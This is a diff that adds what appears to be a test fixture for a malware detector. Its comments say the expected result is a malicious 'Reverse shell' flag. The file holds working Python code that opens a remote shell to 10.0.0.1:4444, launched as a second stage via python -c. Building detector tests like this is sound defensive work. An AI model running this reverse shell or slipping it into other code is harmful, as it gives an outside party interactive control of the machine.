@@ -0,0 +1,12 @@
+# 通过python -c执行的二阶段载荷，在当前进程中递归检测
+# detect-expect: 'IsMalicious': True, 'Desc': 'Reverse shell', 'Stage': '<stage-1>'
+import subprocess
+import sys
+
+stage = ("import os, socket, subprocess\n"
+         "s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n"
+         "s.connect(('10.0.0.1', 4444))\n"
+         "os.dup2(s.fileno(), 0)\n"
+         "os.dup2(s.fileno(), 1)\n"
+         "subprocess.call(['/bin/sh', '-i'])\n")
+subprocess.Popen([sys.executable, "-c", stage])